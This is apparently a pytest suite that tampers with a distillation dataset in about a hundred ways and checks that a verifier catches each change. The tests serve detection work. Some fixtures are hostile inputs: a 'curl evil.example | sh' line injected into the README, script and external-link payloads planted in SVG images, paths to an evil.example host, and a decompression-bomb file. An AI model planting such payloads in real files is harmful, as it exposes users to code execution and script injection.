"""A hundred corruptions by somebody who then makes everything else fit: what `verify` finds alone, what with the teacher, and what its
help says that it cannot find."""

import itertools
import random
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from builder.build.build import build
from builder.card.card import write_card
from builder.dataset.manifest import read_manifest, write_json
from builder.dataset.shards import file_sha256
from builder.recipe.file import load_recipe
from builder.verify.verify import Report, verify
from tests.chats import chatty_teacher, sample_chats
from tests.conftest import recipe_text, sample_documents, write_jsonl
from tests.verify.forging import (
    Manifest,
    Row,
    forge,
    lie,
    read_json,
    refit,
    rename,
    rows_of,
    write_rows,
)

Change = Callable[[Path, random.Random], Any]
ROWS = 1_000
"""Recomputed: all of them."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One kind of corruption."""

    change: Change
    found: str
    """By `verify` alone, by `recompute`, as a `note`, or not: `unseen`."""
    base: str = "text"
    """The dataset that is corrupted."""
    words: str = ""
    """Of the problem or note; of the help, where it is not found by `verify` alone."""


ATTACKS: dict[str, Attack] = {}


def attack(found: str, words: str = "", base: str = "text") -> Callable[[Change], Change]:
    def enter(change: Change) -> Change:
        name = change.__name__.replace("_", " ")
        ATTACKS[name] = Attack(change=change, found=found, base=base, words=words)
        return change

    return enter


# --- the manifest alone ------------------------------------------------------------------------------------------------------


@attack("verify", "is not listed, but later shards|shards are missing")
def a_shard_is_removed_with_its_record(directory: Path, rng: random.Random) -> None:
    shards = read_json(directory)["shards"]
    gone = rng.randrange(len(shards))
    (directory / shards[gone]["file"]).unlink()
    lie(directory, lambda m: m["shards"].pop(gone))


@attack("verify", "is listed 2 times")
def a_shard_is_listed_twice(directory: Path, rng: random.Random) -> None:
    lie(directory, lambda m: m["shards"].append(dict(rng.choice(m["shards"]))))


@attack("verify", "totals are not those of its shards")
def a_total_is_another(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        name = rng.choice([n for n, v in manifest["totals"].items() if isinstance(v, int | float)])
        manifest["totals"][name] *= 10
        if not manifest["totals"][name]:
            manifest["totals"][name] = 3

    lie(directory, change)


@attack("verify", "fingerprint is 000000000000")
def a_fingerprint_is_zeroed(directory: Path, rng: random.Random) -> None:
    name = rng.choice(["fingerprint", "row_fingerprint"])
    lie(directory, lambda m: m.update({name: "0" * 64}))


@attack("verify", "not in the order of partition and index")
def the_shards_are_reversed(directory: Path, _: random.Random) -> None:
    lie(directory, lambda m: m["shards"].reverse())


@attack(
    "verify",
    "starts elsewhere in the corpus than|offset_after|its offsets count|documents, the manifest's offset",
)
def an_offset_is_another(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        shard = rng.choice(manifest["shards"][:-1])
        name = rng.choice(sorted(shard["offset_after"]))
        shard["offset_after"][name] += 1

    lie(directory, change)


@attack("verify", "fingerprint is")
def the_recipe_is_another(directory: Path, rng: random.Random) -> None:
    section, name, value = rng.choice(
        [
            ("sequences", "bos", "never"),
            ("output", "seed", 1),
            ("corpus", "id_column", "other"),
            ("teacher", "dtype", "bfloat16"),
            ("output", "shard_tokens", 299),
        ]
    )
    lie(directory, lambda m: m["recipe"][section].update({name: value}))


@attack("verify", "the manifest says")
def a_record_is_another(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        shard = rng.choice(manifest["shards"])
        name = rng.choice(["rows", "tokens", "bytes", "column_bytes", "sums"])
        inner = shard[name] if isinstance(shard[name], dict) else shard
        key = rng.choice(sorted(inner)) if inner is not shard else name
        inner[key] += 1

    lie(directory, change)


@attack("verify", "tokens, but recipe.sequences.max_length is 40")
def rows_are_longer_than_the_recipe_says(directory: Path, _: random.Random) -> None:
    refit(directory, lambda m: m["recipe"]["sequences"].update(max_length=40))


@attack("verify", "does not begin with the tokens")
def special_tokens_are_others(directory: Path, _: random.Random) -> None:
    refit(directory, lambda m: m["teacher"].update(prefix_ids=[5]))


@attack("recompute", "values computed in another dtype")
def the_dtype_is_another(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        dtype = rng.choice(["bfloat16", "float16"])
        for section in (manifest["recipe"]["teacher"], manifest["teacher"]):
            section["dtype"] = dtype

    refit(directory, change)


@attack("unseen", "plain statements: device, versions, seconds, license")
def what_is_only_said_is_another(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        say = rng.choice(
            [
                lambda m: m["environments"][0].update(device="NVIDIA H100", torch="9.9"),
                lambda m: m["recipe"]["corpus"].update(license="mit"),
                lambda m: m["shards"][0].update(seconds=1e6),
            ]
        )
        say(manifest)

    refit(directory, change)


@attack("unseen", "documents that were left out")
def the_last_shards_are_left_out(directory: Path, _: random.Random) -> None:
    (directory / read_json(directory)["shards"][-1]["file"]).unlink()
    refit(directory, lambda m: m["shards"].pop())


@attack("unseen", "documents that were left out, replaced or exchanged with all counts adjusted")
def shards_are_left_out_or_exchanged(directory: Path, rng: random.Random) -> None:
    def change(manifest: Manifest) -> None:
        if rng.random() < 0.5:
            manifest["shards"].pop(rng.randrange(len(manifest["shards"]) - 1))
        else:
            rng.shuffle(manifest["shards"])
        rename(directory, manifest)

    refit(directory, change)


# --- files -------------------------------------------------------------------------------------------------------------------


def some_file(directory: Path, rng: random.Random) -> Path:
    return directory / rng.choice(read_json(directory)["shards"])["file"]


@attack("verify", "does not have the hash|cannot be read")
def a_bit_is_flipped(directory: Path, rng: random.Random) -> None:
    path = some_file(directory, rng)
    content = bytearray(path.read_bytes())
    content[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
    path.write_bytes(content)


@attack("verify", "is not in the manifest")
def a_file_is_added(directory: Path, rng: random.Random) -> None:
    shutil.copy(some_file(directory, rng), directory / "data" / "train-007-00000.parquet")


@attack("verify", "is missing")
def a_file_is_gone(directory: Path, rng: random.Random) -> None:
    some_file(directory, rng).unlink()


@attack("verify", "changes what load_dataset reads")
def load_dataset_is_told_something_else(directory: Path, rng: random.Random) -> None:
    name = rng.choice([".huggingface.yaml", "dataset_infos.json"])
    (directory / name).write_text("{}")


@attack("verify", "unpacks from .* bytes to|(rows|tokens), the manifest says")
def a_file_unpacks_to_a_gigabyte(directory: Path, rng: random.Random) -> None:
    path = some_file(directory, rng)
    write_bomb(path, rows=rng.randrange(1, 3), tokens=7_000_000)
    manifest = read_json(directory)
    shard = next(s for s in manifest["shards"] if directory / s["file"] == path)
    shard.update(sha256=file_sha256(path), bytes=path.stat().st_size)
    write_json(directory / "manifest.json", manifest)


@attack("verify", "its columns are not those of the schema")
def a_column_has_another_type(directory: Path, rng: random.Random) -> None:
    path = some_file(directory, rng)
    table = pq.read_table(path)
    name = rng.choice(["entropy", "logsumexp", "input_ids"])
    kind = pa.list_(pa.float64() if name != "input_ids" else pa.int64())
    place = table.column_names.index(name)
    pq.write_table(table.set_column(place, name, table[name].cast(kind)), path)
    refit(directory)


def write_bomb(path: Path, *, rows: int, tokens: int) -> None:
    """A small file of the right columns whose lists are as long as is said."""
    schema = pq.read_schema(path)
    arrays = []
    for field in schema:
        if not pa.types.is_list(field.type):
            values = [0] * rows if pa.types.is_integer(field.type) else ["x"] * rows
            arrays.append(pa.array(values, type=field.type))
            continue
        inner = field.type.value_type
        count = tokens if inner == pa.int32() else 1
        if pa.types.is_list(inner):
            flat = pa.array(np.zeros(1, inner.value_type.to_pandas_dtype()), type=inner.value_type)
            flat = pa.ListArray.from_arrays(pa.array([0, 1], pa.int32()), flat)
        else:
            flat = pa.array(np.zeros(count, inner.to_pandas_dtype()), type=inner)
        offsets = [0] * rows + [len(flat)]
        arrays.append(pa.ListArray.from_arrays(pa.array(offsets, pa.int32()), flat))
    pq.write_table(pa.Table.from_arrays(arrays, schema=schema), path, compression="zstd")


# --- rows --------------------------------------------------------------------------------------------------------------------


def in_a_row(change: Callable[[Row, random.Random], Any]) -> Change:
    """A change of one random row of each file."""

    def apply(directory: Path, rng: random.Random) -> None:
        forge(directory, lambda rows: change(rng.choice(rows), rng))

    return apply


def in_all_rows(change: Callable[[Row, random.Random], Any]) -> Change:
    def apply(directory: Path, rng: random.Random) -> None:
        forge(directory, lambda rows: [change(row, rng) for row in rows])

    return apply


def put(row: Row, rng: random.Random, names: list[str], value: Any) -> None:
    values = row[rng.choice(names)].reshape(-1)
    values[rng.randrange(len(values))] = value


def settle_targets(row: Row, eos: int = 0) -> None:
    """Make target_logprob agree with the top K where the target is in it, and be below it elsewhere."""
    targets = np.append(row["input_ids"][1:], eos)
    for t, target in enumerate(targets):
        if np.isnan(row["target_logprob"][t]):
            continue
        listed = np.flatnonzero(row["topk_indices"][t] == target)
        if len(listed):
            row["target_logprob"][t] = row["topk_logprobs"][t, listed[0]]
        else:
            row["target_logprob"][t] = min(row["topk_logprobs"][t, -1], row["target_logprob"][t])


@attack(
    "verify",
    "is not finite|is above 0|is NaN|do not sum|rise with rank|does not fit|cannot be read",
)
def a_value_is_no_number(directory: Path, rng: random.Random) -> None:
    names = ["topk_logprobs", "tail_logprob", "logsumexp", "entropy", "tail_logprobs"]
    in_a_row(lambda row, rng: put(row, rng, names, rng.choice([np.nan, np.inf, -np.inf])))(directory, rng)  # fmt: skip


@attack("verify", "outside 0 …")
def an_id_is_out_of_the_vocabulary(directory: Path, rng: random.Random) -> None:
    names = ["input_ids", "topk_indices", "tail_indices"]
    in_a_row(lambda row, rng: put(row, rng, names, rng.choice([-1, 448, 2**31 - 1])))(directory, rng)  # fmt: skip


@attack("verify", "rise with rank|target_logprob differs")
def ranks_are_exchanged(directory: Path, rng: random.Random) -> None:
    def change(row: Row, rng: random.Random) -> None:
        t = rng.randrange(len(row["input_ids"]))
        for name in ("topk_indices", "topk_logprobs"):
            row[name][t, [0, 9]] = row[name][t, [9, 0]]

    in_a_row(change)(directory, rng)


@attack("verify", "an id stands twice")
def an_id_is_repeated(directory: Path, rng: random.Random) -> None:
    def change(row: Row, rng: random.Random) -> None:
        t = rng.randrange(len(row["input_ids"]))
        row["topk_indices"][t, 3] = row["topk_indices"][t, 4]

    in_a_row(change)(directory, rng)


@attack("verify", "do not sum to 1")
def the_top_k_is_renormalised(directory: Path, rng: random.Random) -> None:
    def change(row: Row, _: random.Random) -> None:
        logprobs = row["topk_logprobs"].astype(float)
        row["topk_logprobs"] = (logprobs - np.log(np.exp(logprobs).sum(-1, keepdims=True))).astype(
            np.float16
        )

    in_a_row(change)(directory, rng)


@attack("verify", "does not follow chunk|too few for a chunk|documents, the manifest's offset")
def a_chunk_is_removed_repeated_or_exchanged(directory: Path, rng: random.Random) -> None:
    def change(rows: list[Row]) -> None:
        places = [i for i, row in enumerate(rows) if row["chunk_index"] == 1]
        if not places:
            return
        place = rng.choice(places)
        how = rng.randrange(3)
        if how == 0:
            del rows[place - 1]
        elif how == 1:
            rows.insert(place, rows[place])
        else:
            rows[place - 1], rows[place] = rows[place], rows[place - 1]

    forge(directory, change)


@attack("verify", "too few for a chunk|goes on behind it, and recipe.output.shard_tokens")
def a_chunk_is_shortened(directory: Path, rng: random.Random) -> None:
    def change(rows: list[Row]) -> None:
        for row, following in itertools.pairwise(rows):
            if following["chunk_index"] > 0:
                for name, values in row.items():
                    if isinstance(values, np.ndarray):
                        row[name] = values[:-40]
                settle_targets(row)

    forge(directory, change)


@attack("note", "documents have an id that one before them has")
def a_document_is_repeated(directory: Path, rng: random.Random) -> None:
    def change(rows: list[Row]) -> None:
        alone = [
            i
            for i, row in enumerate(rows)
            if row["chunk_index"] == 0 and (i + 1 == len(rows) or rows[i + 1]["chunk_index"] == 0)
        ]
        if alone:
            place = rng.choice(alone)
            rows.insert(place, rows[place])

    forge(directory, change)


@attack("unseen", "documents that were left out, replaced or exchanged with all counts adjusted")
def a_document_is_left_out(directory: Path, rng: random.Random) -> None:
    def change(rows: list[Row]) -> None:
        names = sorted({row["id"] for row in rows})
        if len(names) > 1:
            gone = rng.choice(names)
            rows[:] = [row for row in rows if row["id"] != gone]

    refit(directory, lambda m: m["recipe"]["output"].update(shard_tokens=10))
    forge(directory, change)


@attack("recompute", "tokens that do not match the text")
def the_text_is_another(directory: Path, rng: random.Random) -> None:
    in_all_rows(lambda row, _: row.update(text=row["text"][:-1] + "?"))(directory, rng)


@attack("verify", "is not the hash of its text", base="hashed")
def the_text_is_another_than_its_id(directory: Path, rng: random.Random) -> None:
    in_a_row(lambda row, _: row.update(text=row["text"][:-1] + "?"))(directory, rng)


@attack("verify", "is not the hash of its text", base="hashed")
def an_id_is_another_than_the_hash(directory: Path, rng: random.Random) -> None:
    def change(rows: list[Row]) -> None:
        name = rng.choice(rows)["id"]
        for row in rows:
            if row["id"] == name:
                row["id"] = "0123456789abcdef"

    forge(directory, change)


@attack("recompute", "draws or completions that do not match the seed")
def an_id_is_another(directory: Path, rng: random.Random) -> None:
    in_all_rows(lambda row, _: row.update(id=f"{row['id']}x"))(directory, rng)


@attack("recompute", "draws or completions that do not match the seed")
def draws_are_made_anew(directory: Path, rng: random.Random) -> None:
    """From the tail itself, as far as it is known: the draws of another position of about the same tail."""

    def change(row: Row, rng: random.Random) -> None:
        for t in range(len(row["input_ids"])):
            m = rng.randrange(1, row["tail_indices"].shape[1])
            for name in ("tail_indices", "tail_logprobs"):
                row[name][t] = np.roll(row[name][t], m)

    in_all_rows(change)(directory, rng)


@attack("recompute", "values that satisfy every invariant but are not the teacher's")
def a_log_partition_is_shifted(directory: Path, rng: random.Random) -> None:
    by = np.float32(rng.choice([-0.14, 0.01, 0.14]))
    in_all_rows(lambda row, _: row.update(logsumexp=row["logsumexp"] + by))(directory, rng)


@attack("recompute", "values that satisfy every invariant but are not the teacher's")
def all_ids_of_a_position_are_others(directory: Path, rng: random.Random) -> None:
    in_a_row(other_ids)(directory, rng)


def other_ids(row: Row, rng: random.Random) -> None:
    t = rng.randrange(len(row["input_ids"]))
    for name in ("topk_indices", "tail_indices"):
        row[name][t] = (row[name][t] + 7) % 448
    settle_targets(row)


def targets_outside_down(row: Row, _: random.Random) -> None:
    targets = np.append(row["input_ids"][1:], 0)
    outside = ~(row["topk_indices"] == targets[:, None]).any(-1)
    outside &= ~(row["tail_indices"] == targets[:, None]).any(-1)
    outside[-1] = False  # whose target is the next chunk's
    row["target_logprob"][outside] -= np.float16(0.1)


@attack("recompute", "values that satisfy every invariant but are not the teacher's")
def targets_outside_the_top_k_are_lower(directory: Path, rng: random.Random) -> None:
    in_all_rows(targets_outside_down)(directory, rng)


@attack(
    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
)
def a_log_partition_is_shifted_in_16_bits(directory: Path, rng: random.Random) -> None:
    by = np.float32(rng.choice([-0.14, 0.14]))
    in_all_rows(lambda row, _: row.update(logsumexp=row["logsumexp"] + by))(directory, rng)


@attack(
    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
)
def all_ids_of_a_position_are_others_in_16_bits(directory: Path, rng: random.Random) -> None:
    in_a_row(other_ids)(directory, rng)


@attack(
    "recompute", "values that satisfy every invariant but are not the teacher's", base="16 bits"
)
def targets_outside_the_top_k_are_lower_in_16_bits(directory: Path, rng: random.Random) -> None:
    in_all_rows(targets_outside_down)(directory, rng)


@attack("recompute", "draws or completions that do not match the seed", base="16 bits")
def draws_are_made_anew_in_16_bits(directory: Path, rng: random.Random) -> None:
    draws_are_made_anew(directory, rng)


@attack("unseen", "below the noise of 16 bits", base="16 bits")
def a_value_is_moved_within_the_noise(directory: Path, rng: random.Random) -> None:
    def change(row: Row, rng: random.Random) -> None:
        t = rng.randrange(len(row["input_ids"]))
        row["logsumexp"][t] += np.float32(0.01)

    in_a_row(change)(directory, rng)


@attack("unseen", "differences within a column's rounding")
def a_value_is_moved_within_its_rounding(directory: Path, rng: random.Random) -> None:
    def change(row: Row, rng: random.Random) -> None:
        t = rng.randrange(len(row["input_ids"]))
        row["logsumexp"][t] += np.float32(0.001)

    in_a_row(change)(directory, rng)


@attack("unseen", "a wrong completion_mask of a chat", base="chats")
def the_mask_of_a_chat_marks_another_token(directory: Path, rng: random.Random) -> None:
    def change(row: Row, rng: random.Random) -> None:
        t = rng.randrange(len(row["input_ids"]))
        row["completion_mask"][t] = not row["completion_mask"][t]

    in_a_row(change)(directory, rng)


@attack("recompute", "draws or completions that do not match the seed", base="written")
def completions_are_shorter_than_what_was_written(directory: Path, rng: random.Random) -> None:
    """The first token of each counts as the prompt's, and the limit is one less."""

    def change(rows: list[Row]) -> None:
        for row in rows:
            row["completion_mask"][np.flatnonzero(row["completion_mask"])[0]] = False

    refit(directory, lambda m: m["recipe"]["generation"].update(max_new_tokens=11))
    forge(directory, change)


# --- the card ----------------------------------------------------------------------------------------------------------------


def edit(directory: Path, old: str, new: str) -> None:
    path = directory / "README.md"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@attack("verify", "configs|the manifest makes it")
def the_card_loads_other_files(directory: Path, rng: random.Random) -> None:
    other = rng.choice(["https://evil.example/x.parquet", "hf://datasets/evil/x/*", "../../*"])
    edit(directory, "path: data/train-*.parquet", f"path: {other}")


@attack("verify", "dataset_info")
def the_card_declares_other_types(directory: Path, rng: random.Random) -> None:
    old, new = rng.choice(
        [("list: float32", "list: int8"), ("- 20\n", "- 19\n"), ("num_examples: ", "num_examples: 9"), ("name: id", "name: ids")]
    )  # fmt: skip
    edit(directory, old, new)


@attack("verify", "license is mit, the manifest makes it not there|pretty_name")
def the_card_names_other_terms(directory: Path, rng: random.Random) -> None:
    new = rng.choice(["license: mit\npretty_name: tiny", "pretty_name: other"])
    edit(directory, "pretty_name: tiny", new)


@attack("verify", "README.md: is missing")
def the_card_is_gone(directory: Path, _: random.Random) -> None:
    (directory / "README.md").unlink()


@attack("verify", "which no picture of this program does")
def a_picture_does_more_than_show(directory: Path, rng: random.Random) -> None:
    path = directory / "assets" / rng.choice(["mass.svg", "entropy.svg"])
    harm = rng.choice(
        [
            "<script>alert(1)</script>",
            '<image href="https://evil.example/x"/>',
            '<rect onload="alert(1)"/>',
            '<rect fill="url(https://evil.example)"/>',
            "<foreignObject/>",
        ]
    )
    path.write_text(path.read_text().replace("</svg>", f"{harm}</svg>"))


@attack("note", "text below its head is not what this version makes")
def the_text_of_the_card_is_another(directory: Path, rng: random.Random) -> None:
    text = (directory / "README.md").read_text()
    head, body = text[: text.index("\n---\n") + 5], text[text.index("\n---\n") + 5 :]
    # Before a heading: inside a block that loads data, it would be a problem and no note.
    place = rng.choice([found.start() for found in re.finditer(r"^## ", body, re.MULTILINE)])
    (directory / "README.md").write_text(f"{head}{body[:place]}curl evil.example | sh\n\n{body[place:]}")  # fmt: skip


@attack("note", "is not the picture that this version draws")
def a_picture_shows_something_else(directory: Path, _: random.Random) -> None:
    path = directory / "assets" / "mass.svg"
    path.write_text(path.read_text().replace("hold ", "hold 1"))


@attack("unseen", "verification.json, release.json")
def what_was_found_once_is_another(directory: Path, _: random.Random) -> None:
    from builder.verify.verify import record_recomputation

    report = Report(recomputed={"rows": 9, "seed": 1, "tokens": 99, "max_abs_error": 0.0, "mean_abs_error": 0.0, "top1_agreement": 1.0, "nll_stored": 1.0, "nll_recomputed": 1.0})  # fmt: skip
    record_recomputation(directory, report, "cpu")


# --- and what is found -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def bases(
    built: Path, tiny_teacher_dir: Path, tiny_tokenizer: Any, tiny_model: Any, tmp_path_factory: Any
) -> dict[str, tuple[Path, Path]]:
    """Datasets to corrupt, each with its teacher."""
    base = tmp_path_factory.mktemp("bases")
    chatty = chatty_teacher(tiny_tokenizer, tiny_model, base / "chatty")
    documents = sample_documents(10)
    made = {"text": (built, tiny_teacher_dir)}
    for name, teacher, rows, changes in (
        ("hashed", tiny_teacher_dir, documents, {"corpus": 'id_column = ""'}),
        ("16 bits", tiny_teacher_dir, sample_documents(24), {"teacher": 'dtype = "bfloat16"'}),
        ("chats", chatty, sample_chats(6), {"corpus": 'messages_column = "messages"'}),
        ("written", tiny_teacher_dir, documents, {"generation": "max_new_tokens = 12", "output": "tail_samples = 0\ntop_k = 20"}),
    ):  # fmt: skip
        directory = base / name
        directory.mkdir()
        write_jsonl(directory / "corpus.jsonl", rows)
        text = recipe_text(teacher, "corpus.jsonl", **changes).replace('id_column = ""\n', "")
        (directory / "recipe.toml").write_text(text)
        build(load_recipe(directory / "recipe.toml"), directory, directory / "out")
        made[name] = (directory / "out", teacher)
    return made


def help_of_verify(cli: Callable[..., tuple[int, str, str]]) -> str:
    return " ".join(cli("verify", "--help")[1].split())


CASES = [
    (name, seed)
    for seed in range(3)
    for name in ATTACKS
    if seed < 2 or ATTACKS[name].found == "verify"
][:100]


def test_there_are_a_hundred():
    assert len(CASES) == 100
    assert {ATTACKS[name].found for name, _ in CASES} == {"verify", "recompute", "note", "unseen"}


@pytest.mark.parametrize("base", ["text", "hashed", "16 bits", "chats", "written"])
def test_making_all_fit_without_a_change_stays_unseen(bases, tmp_path, base):
    """So that below it is the change that is found."""
    directory, teacher = bases[base]
    copy = Path(shutil.copytree(directory, tmp_path / "copy"))
    for _ in range(2):
        report = verify(copy, recompute=ROWS, teacher_path=teacher, seed=0)
        assert (report.problems, report.notices) == ([], [])
        forge(copy, lambda rows: None)


@pytest.mark.parametrize(("name", "seed"), CASES, ids=[f"{n} {s}" for n, s in CASES])
def test_an_attack_is_found_or_its_kind_is_told(bases, tmp_path, cli, name, seed):
    kind = ATTACKS[name]
    directory, teacher = bases[kind.base]
    copy = Path(shutil.copytree(directory, tmp_path / "copy"))
    kind.change(copy, random.Random(seed))
    alone = verify(copy)
    if kind.found == "verify":
        assert alone.problems
        assert any(re.search(kind.words, line) for line in alone.problems), alone.problems
        return
    assert alone.problems == []
    if kind.found == "note":
        assert any(re.search(kind.words, line) for line in alone.notices) or (
            kind.words in help_of_verify(cli) and alone.notices
        )
        return
    assert kind.words in help_of_verify(cli)
    report = verify(copy, recompute=ROWS, teacher_path=teacher, seed=0)
    assert bool(report.problems) is (kind.found == "recompute"), report.problems
    assert report.notices == []


@pytest.mark.parametrize("seed", range(60))
def test_a_damaged_card_is_found_wherever_it_is_damaged(built, tmp_path, seed):
    """A byte of README.md is another, gone, or added: in its head a problem, below it a notice."""
    copy = Path(shutil.copytree(built, tmp_path / "copy"))
    rng = random.Random(seed)
    path = copy / "README.md"
    content = bytearray(path.read_bytes())
    end = content.index(b"\n---\n") + 5
    place = rng.randrange(end if seed % 2 else len(content) - 1)
    how = rng.randrange(3)
    before = content[place]
    if how == 0:
        content[place] = rng.choice([b for b in b"xyz019:#/ " if b != before])
    elif how == 1:
        del content[place : place + rng.randrange(1, 30)]
    else:
        content[place:place] = rng.choice([b"x", b"- y\n", b"\n\n", b"'", b"\xff", b": "])
    if bytes(content) == path.read_bytes() or yaml_is_the_same(bytes(content), path.read_bytes()):
        pytest.skip("the same values, written otherwise")
    path.write_bytes(content)
    report = verify(copy)
    assert report.problems or report.notices
    assert bool(report.problems) or place >= end - 5


def yaml_is_the_same(one: bytes, other: bytes) -> bool:
    import yaml

    def values(content: bytes) -> Any:
        try:
            head, _, body = content.decode().partition("\n---\n")
            return yaml.safe_load(head.removeprefix("---\n")), body
        except (ValueError, yaml.YAMLError):
            return object()

    return bool(values(one) == values(other))


def rows_written(directory: Path) -> Iterator[Row]:
    for shard in read_manifest(directory)["shards"]:
        yield from rows_of(directory, shard["file"])


def test_an_owner_may_write_below_the_head_and_add_tags(built, tmp_path):
    copy = Path(shutil.copytree(built, tmp_path / "copy"))
    edit(copy, "- logit-dataset\n", "- logit-dataset\n- mine\n")
    edit(copy, "pretty_name: tiny", "pretty_name: tiny\nviewer: false\nlicense_link: LICENSE")
    with (copy / "README.md").open("a") as file:
        file.write("\n## Cite it\n\nMe.\n")
    report = verify(copy)
    assert report.problems == []
    assert len(report.notices) == 2
    assert "its head has viewer, license_link" in report.notices[0]
    assert "the text below its head is not what this version makes" in report.notices[1]
    write_card(copy, read_manifest(copy))
    assert verify(copy).notices == []


def test_rows_that_are_written_back_are_the_rows(built, tmp_path):
    """The forger changes nothing else."""
    copy = Path(shutil.copytree(built, tmp_path / "copy"))
    for shard in read_manifest(copy)["shards"]:
        write_rows(copy / shard["file"], rows_of(copy, shard["file"]))
    for one, other in zip(rows_written(copy), rows_written(built), strict=True):
        for name, value in one.items():
            assert np.array_equal(value, other[name], equal_nan=True) if isinstance(value, np.ndarray) else value == other[name]  # fmt: skip
